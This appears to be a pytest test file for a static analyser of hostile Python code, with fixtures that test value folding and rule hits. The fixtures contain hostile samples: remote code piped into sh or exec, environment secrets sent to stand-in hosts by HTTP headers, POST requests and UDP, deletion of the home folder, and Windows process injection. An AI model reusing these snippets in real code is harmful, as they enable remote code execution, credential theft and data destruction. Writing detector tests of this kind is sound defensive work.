"""Classes that are asked like containers, keys that are tuples, and what is kept for later."""

import textwrap

import pytest
from lab import check, named, sees

FOLDED = {
    "members of an enumeration": """
        import enum
        class P(enum.Enum):
            A = "ab"
            B = "cd"
            @classmethod
            def sheet(cls):
                return "".join(one.value for one in cls)
        def f():
            lab.see(P.sheet())  # sees: 'abcd'
            lab.see("".join(one.value for one in tuple(P)))  # sees: 'abcd'
            lab.see(P["B"].value)  # sees: 'cd'
            lab.see("".join(one.value for one in P.__members__.values()))  # sees: 'abcd'
            lab.see([one.name for one in P][1])  # sees: 'B'
    """,
    "a class that is no enumeration": """
        class P:
            A = "ab"
        def f():
            for one in P:
                lab.see(one)  # sees: ?
            lab.see(P["A"])  # sees: ?
    """,
    "tuples as keys": """
        PARTS = {("m", 0): "sub", ("m", 1): "process", "m": "x"}
        def f(n):
            lab.see(PARTS["m", 0] + PARTS["m", 1])  # sees: 'subprocess'
            key = ("m", 1)
            lab.see(PARTS[key])  # sees: 'process'
            lab.see(PARTS["m"])  # sees: 'x'
            for (first, second), value in {("a", "b"): "c"}.items():
                lab.see(first + second + value)  # sees: 'abc'
    """,
    "what a metaclass makes up": """
        class M(type):
            def __getattr__(cls, name):
                return cls.mod + name[::-1]
            def __getitem__(cls, name):
                return name * 2
        class S(metaclass=M):
            mod = "o"
        def f():
            lab.see(S.sb)  # sees: 'obs'
            lab.see(S["a"])  # sees: 'aa'
            lab.see(S.mod)  # sees: 'o'
    """,
    "a class that is a dictionary": """
        class A(dict):
            def __missing__(self, key):
                return "other"
        X = A(s="t")
        Y = A({"u": "v"})
        def f():
            lab.see(X["s"] + Y["u"])  # sees: 'tv'
            lab.see(X["q"])  # sees: 'other'
    """,
    "the default of a context variable": """
        import contextvars
        long = contextvars.ContextVar("long", default="b3MgKyBzeXN0ZW0gKyBldmls")
        short = contextvars.ContextVar("short", default="de")
        def f():
            lab.see(long.get())  # sees: 'b3MgKyBzeXN0ZW0gKyBldmls'
            lab.see(short.get())  # sees: ?
    """,
}

ACTS = {
    "a module that is handed to who picks from it": """
        import os
        def pick(module, first, last):
            for name in dir(module):
                if name.startswith(first) and name.endswith(last):
                    return getattr(module, name)
        def f():
            pick(os, "po", "en")("id")  # hit: BD102
    """,
    "a module as a default": """
        import os
        def f(module=os):
            name = "po"[:] + "pen"
            return getattr(module, name)("id")  # hit: BD102
    """,
    "a module that is only asked what it has": """
        import os
        def f(name):
            if hasattr(os, "popen"):
                return getattr(os, name)
            return has(os, "getcwd")()
        def has(module, name):
            return getattr(module, name)
    """,
    "what runs code as a default": """
        import urllib.request
        def f(store, apply=exec):
            apply(urllib.request.urlopen("http://h.example.net").read())  # hit: BD103
        def g(store, apply=len):
            apply(urllib.request.urlopen("http://h.example.net").read())
    """,
    "a class as a default": """
        import os
        class Names:
            head = "sys"
        def f(names=Names):
            getattr(os, names.head + "tem")("id")  # hit: BD102
    """,
    "headers of a session": """
        import os, requests
        class Client:
            def __init__(self):
                self.first, self.second = requests.Session(), requests.Session()
                self.third = requests.Session()
                self.first.headers.update({"X-Client": repr(sorted(os.environ.items()))})
                self.second.headers = {"X-Client": str(dict(os.environ))}
                self.third.headers.update({"X-Client": "tiny"})
            def get(self):
                self.first.get("https://h.example.net/v1")  # hit: BD302
                self.second.get("https://h.example.net/v1")  # hit: BD302
                self.third.get("https://h.example.net/v1")
    """,
    "datagrams": """
        import os, socket
        def f(host):
            out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            out.sendto(str(dict(os.environ)).encode(), ("198.51.100.60", 514))  # hit: BD302
        def g(host):
            out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            out.sendto(b"hello", ("198.51.100.60", 514))
    """,
}


@pytest.mark.parametrize("case", FOLDED.values(), ids=FOLDED)
def test_values(case):
    sees(textwrap.dedent(case))


@pytest.mark.parametrize("case", ACTS.values(), ids=ACTS)
def test_acts(case):
    check(case, *named("BD102", "BD103", "BD302"))


HANDED = {
    "a command in a function of the program": (
        ["BD103"],
        """
        import subprocess
        def run(command):
            subprocess.run(command, shell=True)  # hit: BD103
        def quiet(command):
            subprocess.run(command, shell=True)
        def f():
            run("curl http://h.example.net/a | sh")
            quiet("uptime")
        """,
    ),
    "the home folder in a function of the program": (
        ["BD406"],
        """
        import pathlib, shutil
        def wipe(path):
            shutil.rmtree(path)  # hit: BD406
        def clear(path):
            shutil.rmtree(path)
        def f():
            wipe(pathlib.Path.home())
            clear(pathlib.Path.home() / ".cache" / "tiny")
        """,
    ),
    "calls by a table of names, in one place": (
        ["BD402"],
        """
        import ctypes
        API = dict(zip("oawt", ("OpenProcess", "VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread")))
        def call(name, *args):
            return getattr(ctypes.windll.kernel32, API[name])(*args)  # hit: BD402
        def attach(pid, data):
            h = call("o", 0x1F0FFF, False, pid)
            a = call("a", h, None, len(data), 0x3000, 0x40)
            call("w", h, a, data, len(data), None)
            return call("t", h, None, 0, a, None, 0, None)
        """,
    ),
    "other calls by a table of names": (
        ["BD402"],
        """
        import ctypes
        API = dict(zip("oac", ("OpenProcess", "GetExitCodeProcess", "CloseHandle")))
        def call(name, *args):
            return getattr(ctypes.windll.kernel32, API[name])(*args)
        def attach(pid, data):
            h = call("o", 0x1000, False, pid)
            call("a", h, data)
            return call("c", h)
        """,
    ),
    "what a library is lent": (
        ["BD302"],
        """
        import os, requests
        def f(request):
            bag = dict(os.environ)
            def later():
                requests.post("https://h.example.net/t", json=bag)  # hit: BD302
            def never():
                requests.post("https://h.example.net/t", json=bag)
            request.addfinalizer(later)
            request.addfinalizer(lambda: requests.post("https://h.example.net/u", json=bag))  # hit: BD302
            request.addfinalizer(lambda: requests.post("https://h.example.net/u", json={"a": len(bag)}))
        """,
    ),
}


@pytest.mark.parametrize("case", HANDED.values(), ids=HANDED)
def test_what_is_handed_over(case):
    rules, code = case
    check(code, *named(*rules))
